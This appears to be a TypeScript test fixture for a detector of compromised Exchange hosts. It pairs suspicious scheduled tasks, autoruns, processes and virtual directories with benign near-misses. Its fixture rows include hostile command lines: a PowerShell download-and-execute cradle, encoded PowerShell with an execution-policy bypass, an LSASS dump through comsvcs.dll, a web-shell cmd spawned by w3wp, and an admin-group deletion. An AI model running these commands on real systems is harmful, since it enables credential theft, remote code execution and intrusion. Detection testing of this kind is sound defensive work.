type Fields = Record<string, string>;

const vdir = "virtual_directory";
const directory = (name: string, more: Fields = {}): Fields => ({
  Identity: `EX01\\${name} (Default Web Site)`,
  Server: "EX01",
  Directory: name,
  InternalUrl: `https://ex01.contoso.example/${name}`,
  ExternalUrl: "",
  ChangedDay: "20200617",
  ...more,
});
const during = { ChangedDay: "20210303" };

const tasks = "scheduled_task";
const task = (TaskName: string, CommandLine: string): Fields => ({
  Server: "EX01",
  TaskName,
  CommandLine,
  RunAs: "SYSTEM",
});
const autorun = (more: Fields): Fields => ({
  Server: "EX01",
  Location: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
  Entry: "Updater",
  Path: "C:\\Program Files\\Updater\\updater.exe",
  CommandLine: "updater.exe",
  Signature: "verified",
  ...more,
});
const processes = "process_list";
const running = (Image: string, more: Fields = {}): Fields => ({ Server: "EX01", Image, CommandLine: Image, ...more });
const base64 = "RwBlAHQALQBEAGEAdABlACAAfAAgAEYAbwByAG0AYQB0AC0ATABpAHMAdAA=";

/** Rules over what is exported of a host: rule, kind, a row it must be the only finding of, and a near row that must not give it. */
export const hostCases: [string, string, Fields, Fields][] = [
  [
    "vdir-script-url",
    vdir,
    directory("OAB", { ...during, ExternalUrl: `http://f/<script language="JScript" runat="server">body</script>` }),
    directory("OAB", { ExternalUrl: "https://servicerequest.contoso.example/OAB" }),
  ],
  [
    "vdir-odd-url",
    vdir,
    directory("ECP", { ...during, InternalUrl: "file://ex01/share" }),
    directory("ECP", { InternalUrl: "http://ex01.contoso.example:8080/ecp/" }),
  ],
  ["vdir-oab-changed", vdir, directory("OAB", during), directory("OAB", { ChangedDay: "20210501" })],
  ["vdir-changed", vdir, directory("EWS", during), directory("EWS", { ChangedDay: "20201231" })],
  ["task-winnet", tasks, task("\\Winnet", `powershell -ep bypass -e ${base64}`), task("\\WinnetUpdate", "powershell")],
  [
    "task-vsperfmon",
    tasks,
    task("\\VSPerfMon", "C:\\ProgramData\\VSPerfMon\\VSPerfMon.exe"),
    task("\\Profile", "C:\\Program Files (x86)\\Microsoft Visual Studio\\VSPerfMon.exe /start"),
  ],
  [
    "task-encoded-powershell",
    "autorun",
    autorun({ CommandLine: `powershell.exe -NoP -EncodedCommand ${base64}` }),
    autorun({ CommandLine: "powershell -ExecutionPolicy RemoteSigned -File C:\\Scripts\\backup.ps1" }),
  ],
  [
    "process-encoded-powershell",
    processes,
    running("powershell.exe", { CommandLine: `powershell -enc ${base64}` }),
    running("powershell.exe", { CommandLine: "powershell -ExecutionPolicy Unrestricted -File C:\\Scripts\\a.ps1" }),
  ],
  [
    "host-runs-downloaded-code",
    tasks,
    task("\\t", "powershell IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')"),
    task("\\t", "powershell Invoke-WebRequest https://localhost/owa/healthcheck.htm"),
  ],
  [
    "task-from-data-folder",
    tasks,
    task("\\Updater", "wscript.exe C:\\ProgramData\\up.vbs"),
    task("\\Scan", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2102.4-0\\MpCmdRun.exe Scan"),
  ],
  [
    "autorun-unsigned-data-folder",
    "autorun",
    autorun({ Path: "C:\\ProgramData\\updater\\svc.exe", Signature: "not verified" }),
    autorun({ Path: "C:\\ProgramData\\updater\\svc.exe", Signature: "verified" }),
  ],
  [
    "process-from-data-folder",
    processes,
    running("svc.exe", { Path: "C:\\Users\\Public\\svc.exe" }),
    running("MsMpEng.exe", { Path: "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1\\MsMpEng.exe" }),
  ],
  [
    "host-web-folder",
    tasks,
    task("\\t", "cmd /c copy C:\\inetpub\\wwwroot\\aspnet_client\\a.txt"),
    task("\\t", "cmd /c del C:\\inetpub\\temp\\old.log"),
  ],
  [
    "process-web-worker-shell",
    processes,
    running("cmd.exe", {
      ParentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
      CommandLine: "cmd /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&whoami&echo [S]&cd&echo [E]",
    }),
    running("csc.exe", { ParentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe" }),
  ],
  [
    "process-um-child",
    processes,
    running("cmd.exe", { ParentImage: "UMWorkerProcess.exe" }),
    running("WerFault.exe", { ParentImage: "UMWorkerProcess.exe" }),
  ],
  [
    "host-lsass-dump",
    processes,
    running("rundll32.exe", {
      ParentImage: "w3wp.exe",
      CommandLine: "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 700 C:\\inetpub\\wwwroot\\x.dmp full",
    }),
    running("rundll32.exe", { CommandLine: "rundll32.exe C:\\windows\\System32\\comsvcs.dll,Register" }),
  ],
  ["process-dump-tool", processes, running("procdump64.exe"), running("procexp64.exe")],
  [
    "host-campaign-command",
    processes,
    running("net.exe", { CommandLine: 'net group "Exchange Organization administrators" administrator /del /domain' }),
    running("net.exe", { CommandLine: 'net group "Exchange Organization administrators" /domain' }),
  ],
];

/** Rows of a host that nobody attacked. */
export const ordinaryHostRows: [string, string, Fields][] = [
  ["a virtual directory without an external URL", vdir, directory("OAB")],
  [
    "a virtual directory with the public URL that an administrator set",
    vdir,
    directory("OWA", { ExternalUrl: "https://mail.contoso.example/owa", ChangedDay: "" }),
  ],
  [
    "a virtual directory that PowerShell reaches without TLS",
    vdir,
    directory("PowerShell", { InternalUrl: "http://ex01.contoso.example/powershell" }),
  ],
  [
    "a task of Windows",
    tasks,
    task(
      "\\Microsoft\\Windows\\Time Synchronization\\SynchronizeTime",
      "%windir%\\system32\\sc.exe start w32time task_started",
    ),
  ],
  [
    "a task that only asks for a page",
    tasks,
    task("\\Health", "powershell Invoke-WebRequest https://localhost/owa/healthcheck.htm"),
  ],
  ["a signed program that starts by itself", "autorun", autorun({})],
  ["an unsigned program where programs belong", "autorun", autorun({ Signature: "none" })],
  [
    "a worker of Exchange",
    processes,
    running("C:\\Windows\\System32\\inetsrv\\w3wp.exe", {
      ParentImage: "svchost.exe",
      CommandLine: 'w3wp.exe -ap "MSExchangeOWAAppPool" -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool.config"',
    }),
  ],
  ["the compiler that ASP.NET starts", processes, running("csc.exe", { ParentImage: "w3wp.exe" })],
  ["error reporting of Unified Messaging", processes, running("wermgr.exe", { ParentImage: "UMWorkerProcess.exe" })],
  ["PowerShell of an administrator", processes, running("powershell.exe", { ParentImage: "explorer.exe" })],
];
